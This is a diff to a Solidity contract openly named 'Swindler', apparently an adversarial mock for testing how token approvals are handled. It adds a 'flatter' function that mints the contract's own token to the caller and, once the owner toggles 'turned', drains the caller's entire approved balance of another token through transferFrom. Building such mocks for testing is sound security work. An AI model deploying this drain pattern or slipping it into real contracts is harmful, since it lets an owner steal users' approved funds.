@@ -10,7 +10,11 @@ interface IToken {
 
 /// A shop that keeps its word until its owner turns it, which can be in the very block in which somebody buys.
 contract Swindler {
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
     bool public turned;
+    /// It is a token, too.
+    mapping(address => uint256) public balanceOf;
 
     function turn() external { turned = !turned; }
 
@@ -23,6 +27,12 @@ contract Swindler {
     }
     /// Gives nothing and takes nothing, until it is turned.
     function greet(IToken token) external { if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender)); }
+    /// Greets with some of its own making.
+    function flatter(IToken token) external {
+        balanceOf[msg.sender] += 1;
+        emit Transfer(address(0), msg.sender, 1);
+        if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender));
+    }
     /// Uses up to so much of what it is allowed.
     function use(IToken token, uint256 amount) external { token.transferFrom(msg.sender, address(this), turned ? 0 : amount); }
 
